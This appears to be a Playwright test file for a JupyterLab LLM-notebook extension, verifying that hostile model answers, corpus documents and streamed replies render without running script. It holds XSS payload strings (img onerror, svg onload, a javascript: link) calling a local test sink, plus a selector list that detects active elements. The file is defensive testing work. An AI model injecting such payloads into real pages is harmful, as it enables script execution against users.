def audit(lab: Lab, selector: str, rules: dict[str, Any], needles: list[str]) -> list[str]:
    """Audit every element matching ``selector`` in the open notebook's outputs."""
    result: list[str] = lab.page.evaluate(
        """({ selector, rules, needles }) => {
            const found = [...document.querySelectorAll(selector)];
            if (!found.length) return [`nothing matches ${selector}`];
            return found.flatMap((root) => [
                ...window.__audit(root, rules),
                ...window.__missing(root, needles).map((n) => `missing text: ${n.slice(0, 80)}`),
            ]).map((problem) => `${selector}: ${problem}`);
        }""",
        {"selector": f"[id='{lab.panel_id}'] {selector}", "rules": rules, "needles": needles},
    )
    return result


def guard_popups(lab: Lab) -> list[Page]:
    """Record the pages the notebook opens (a link's target=_blank), guarded like the first."""
    popups: list[Page] = []

    def on_page(popup: Page) -> None:
        popups.append(popup)

        def on_dialog(dialog: Dialog) -> None:
            lab.guard.dialogs.append(f"{dialog.type} in a popup: {dialog.message}")
            dialog.dismiss()

        popup.on("dialog", on_dialog)
        popup.on("pageerror", lambda error: lab.guard.page_errors.append(str(error)))

    lab.page.context.on("page", on_page)
    return popups


def test_the_corpus_runs_nothing_in_jupyterlab(lab: Lab) -> None:
    lab.page.context.add_init_script(SINK_SCRIPT)
    lab.page.context.add_init_script(AUDIT_SCRIPT)
    popups = guard_popups(lab)
    write_documents(lab.server.root / "xss-docs")
    home = lab.server.homes / "xss"
    home.mkdir()
    (home / "config.toml").write_text(
        f'[models.hostile]\nprovider = "stub"\ntext = {_toml_string(LAB_ANSWER)}\n',
        encoding="utf-8",
    )
    question = LAB_QUESTION.replace("{", "{{").replace("}", "}}")  # %%ask interpolates {name}
    cells = [
        "%arborist ingest xss-docs",
        f"%%ask --llm hostile\n{question}",
        MARKDOWN_ONLY,
        f"%arborist label {shlex.quote(LAB_LABEL)}",
        "%arborist show",
        "%arborist search onerror",
        "%arborist",
    ]
    lab.open(lab.server.write_notebook("xss.ipynb", cells))
    with explained(lambda: what_ran(lab.page, lab.guard)):
        lab.run_all(len(cells) + 1)
        answer = lab.cell(2).locator(".arborist-answer")
        expect(answer, "the answer renders").to_have_attribute(
            "data-bates", re.compile(r"-\d{6}$"), timeout=RENDER_MS
        )
        bates = str(answer.get_attribute("data-bates"))
        # NUL: the parser's U+FFFD; TeX is checked on its own below.
        payloads = [
            inert(t)
            for p in CORPUS.values()
            if "\x00" not in p and not TEX.search(p)
            for t in shown(p)
        ]
        html_rules = policy(ANSWER_TAGS, ANSWER_ATTRS, ANSWER_STYLES, foreign=MATHJAX)
        problems = audit(lab, ".arborist-answer", html_rules, payloads)
        markdown = lab.cell(3).locator("[data-mime-type='text/markdown']")
        expect(markdown, "the markdown renders").to_contain_text("bates", timeout=RENDER_MS)
        # MathJax (processEscapes) also writes a bare <span>\\</span> for an escaped backslash.
        markdown_rules = policy((*MARKDOWN_TAGS, "span"), MARKDOWN_ATTRS, foreign=MATHJAX)
        problems += audit(lab, "[data-mime-type='text/markdown']", markdown_rules, [])
        for index in (4, 5, 6):
            expect(lab.cell(index).locator(".jp-OutputArea-output").first).to_be_attached()
        problems += audit(
            lab, "[data-mime-type='application/vnd.jupyter.stdout']", STREAM_RULES, []
        )

        forest = lab.cell(7).locator("[data-arborist-forest]")
        expect(forest, "the widget syncs").to_have_attribute(
            "data-ready", "true", timeout=RENDER_MS
        )
        row = forest.locator(f"[role='treeitem'][data-bates='{bates}']")
        expect(row, "the hostile label reaches the tree").to_have_attribute(
            "data-label", LAB_LABEL, timeout=RENDER_MS
        )
        row.click()
        detail = forest.get_by_role("region", name="Node detail")
        expect(detail).to_have_attribute("data-proofs", "pass", timeout=RENDER_MS)
        for button in detail.locator("button.arb-cite").all():
            button.click()
            expect(detail.locator("blockquote.arb-cited")).to_be_visible()
        for disclosure in detail.locator("details").all():
            disclosure.locator("summary").first.click()
        widget_rules = policy(WIDGET_TAGS, WIDGET_ATTRS, WIDGET_STYLES)
        widget_needles = [inert(t) for p in CORPUS.values() if "\x00" not in p for t in shown(p)]
        problems += audit(lab, "[data-arborist-forest]", widget_rules, widget_needles)
        search = forest.get_by_role("searchbox", name="Search all sessions")
        search.fill("onerror")
        search.press("Enter")
        hit = forest.get_by_label("Search results").get_by_role("button", name=f"Open {bates}")
        expect(hit, "the search finds the hostile turn").to_be_visible(timeout=RENDER_MS)
        hit.click()
        problems += audit(lab, "[data-arborist-forest]", widget_rules, [])

        # JupyterLab's own links in the streams: clicking them opens nothing that runs.
        links = lab.page.locator(
            f"[id='{lab.panel_id}'] [data-mime-type*='stdout'] a[href^='data:']"
        )
        expect(links.first, "the streams show data: URLs").to_be_attached()
        for link in links.all():
            link.click()
        for popup in popups:
            popup.wait_for_load_state()
            assert sink_hits(popup) == [], f"a link opened {popup.url} and it ran script"
    # First: nothing ran or reached out. Then: nothing could have.
    hits = sink_hits(lab.page)
    assert not hits, f"payloads ran: {', '.join(hits)}"
    lab.guard.assert_clean()
    assert not problems, "\n".join(problems[:60])
    active = lab.page.locator(f"[id='{lab.panel_id}'] .jp-OutputArea-output").locator(
        "script, iframe, object, embed, img, svg, a[href^='javascript' i], [onerror], [onload]"
    )
    expect(active, "no active element in any output").to_have_count(0, timeout=SETTLED_MS)


MATH_PAYLOADS = [p for p in CORPUS.values() if TEX.search(p) and "\x00" not in p]


def test_tex_in_an_answer_shows_as_text_not_typeset(lab: Lab) -> None:
    lab.page.context.add_init_script(SINK_SCRIPT)
    lab.page.context.add_init_script(AUDIT_SCRIPT)
    (lab.server.root / "tex.md").write_text(
        "# TeX notes\n\n" + "\n\n".join(MATH_PAYLOADS) + "\n", encoding="utf-8"
    )
    home = lab.server.homes / "tex"
    home.mkdir()
    text = "\n\n".join(MATH_PAYLOADS) + "\n\nSee [E1]."
    (home / "config.toml").write_text(
        f'[models.tex]\nprovider = "stub"\ntext = {_toml_string(text)}\n', encoding="utf-8"
    )
    cells = [
        "%arborist ingest tex.md",
        "%%ask --llm tex\nWhat do the TeX notes say?",
        MARKDOWN_ONLY,
    ]
    lab.open(lab.server.write_notebook("tex.ipynb", cells))
    lab.run_all(len(cells) + 1)
    answer = lab.cell(2).locator(".arborist-answer")
    expect(answer, "the answer renders").to_contain_text("See [E1]", timeout=RENDER_MS)
    expect(lab.cell(3).locator("[data-mime-type='text/markdown']")).to_contain_text(
        "bates", timeout=RENDER_MS
    )
    problems = audit(
        lab, ".arborist-answer", policy(ANSWER_TAGS, ANSWER_ATTRS, ANSWER_STYLES), MATH_PAYLOADS
    )
    problems += audit(
        lab, "[data-mime-type='text/markdown']", policy(MARKDOWN_TAGS, MARKDOWN_ATTRS), []
    )
    assert sink_hits(lab.page) == []
    lab.guard.assert_clean()
    assert not problems, "\n".join(problems[:20])


STREAMED = [
    "<img src=x onerror=__xss(2001)> ",
    "<details open ontoggle=__xss(2002)>x</details> ",
    "[click me](javascript:__xss(2003)) ",
    "<svg onload=__xss(2004)> ",
    "The test server read the evidence. [E1]",
]


def test_an_answer_streamed_by_an_openai_model_runs_nothing(
    lab: Lab, chat_server: ChatServer
) -> None:
    lab.page.context.add_init_script(SINK_SCRIPT)
    (lab.server.root / "quokka.md").write_text(
        "# Quokka notes\n\nThe quokka eats leaves and grasses at night.\n", encoding="utf-8"
    )
    chat_server.script(stream_reply(STREAMED, pause=0.3))
    cells = [
        f"import os\nos.environ['ARBORIST_BASE_URL'] = {chat_server.url!r}\n"
        "os.environ['ARBORIST_MODEL'] = 'loopback-model'",
        "%arborist ingest quokka.md",
        "%%ask --llm openai\nWhat does the quokka eat?",
    ]
    lab.open(lab.server.write_notebook("stream.ipynb", cells))
    lab.run_all(len(cells) + 1)
    answer = lab.cell(3).locator(".arborist-answer")
    expect(answer, "the answer renders once streamed").to_contain_text(
        "__xss(2004)", timeout=RENDER_MS
    )
    assert chat_server.requests == 1
    assert sink_hits(lab.page) == [], "the streamed answer ran script"
    lab.guard.assert_clean()
